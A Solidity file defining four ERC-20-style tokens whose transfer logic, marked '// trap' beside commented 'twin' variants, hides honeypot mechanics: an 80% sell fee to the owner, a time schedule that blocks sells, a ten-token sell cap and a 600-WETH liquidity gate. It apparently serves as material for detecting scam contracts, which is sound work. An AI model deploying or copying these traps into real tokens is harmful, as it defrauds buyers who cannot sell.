// 0.6 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;

interface IMill {
    function createPair(address, address) external returns (address);
}

interface IHolds {
    function balanceOf(address) external view returns (uint256);
}

abstract contract Tally {
    string public name;
    string public symbol;
    uint8 public decimals;
    uint256 public totalSupply;
    address internal team;
    address internal stall;
    address internal constant WETH = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
    mapping(address => uint256) internal stock;
    mapping(address => mapping(address => uint256)) internal grants;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory n, string memory s, uint8 d, uint256 count) public {
        name = n;
        symbol = s;
        decimals = d;
        totalSupply = count * 10**uint256(d);
        team = msg.sender;
        stock[msg.sender] = totalSupply;
        stall = IMill(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), WETH);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address who) external view returns (uint256) {
        return stock[who];
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return grants[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        grants[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        deal(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(grants[from][msg.sender] >= value, "grant");
        grants[from][msg.sender] -= value;
        deal(from, to, value);
        return true;
    }

    function shift(address from, address to, uint256 value) internal {
        require(stock[from] >= value, "stock");
        stock[from] -= value;
        stock[to] += value;
        emit Transfer(from, to, value);
    }

    function deal(address from, address to, uint256 value) internal virtual;
}

contract Thistlewick is Tally {
    constructor() public Tally("Thistlewick", "THWK", 18, 40_000_000) {}

    function rankOf(address who) public view returns (uint256) {
        uint256 part = (stock[who] * 1000) / totalSupply;
        if (part >= 200) return 0;
        if (part >= 100) return 1;
        return 2;
    }

    function deal(address from, address to, uint256 value) internal override {
        if (to == stall && from != team) {
            uint256 rank = rankOf(from);
            uint256 rate = rank * 40; // trap
            // twin: uint256 rate = rank * 2;
            uint256 fee = (value * rate) / 100;
            shift(from, team, fee);
            value -= fee;
        }
        shift(from, to, value);
    }
}

contract Perigord is Tally {
    uint256 private constant ALMANAC = 0x6464;
    uint256 private begun;

    constructor() public Tally("Perigord", "PRGD", 18, 900_000_000) {
        begun = block.timestamp;
    }

    function portion(uint256 moment) public view returns (uint256) {
        uint256 chapter = (moment - begun) / 21 days;
        // twin: if (chapter > 1) return 100;
        return uint8(ALMANAC >> (8 * chapter));
    }

    function deal(address from, address to, uint256 value) internal override {
        if (to == stall && from != team) require(value * 100 <= stock[from] * portion(block.timestamp), "portion");
        shift(from, to, value);
    }
}

contract Lodestar is Tally {
    uint256 private constant GRAIN = 8; // trap
    // twin: uint256 private constant GRAIN = 2;

    constructor() public Tally("Lodestar Nine", "LODE", 9, 1_000_000_000) {}

    function largest() public view returns (uint256) {
        return totalSupply / 10**GRAIN;
    }

    function deal(address from, address to, uint256 value) internal override {
        require(to != stall || from == team || value <= largest(), "too large");
        shift(from, to, value);
    }
}

contract Brackwater is Tally {
    uint256 private constant MARK = 600 ether; // trap
    // twin: uint256 private constant MARK = 0.05 ether;

    constructor() public Tally("Brackwater", "BRKW", 18, 5_000_000) {}

    function deal(address from, address to, uint256 value) internal override {
        if (to == stall && from != team) require(IHolds(WETH).balanceOf(stall) >= MARK, "low tide");
        shift(from, to, value);
    }
}
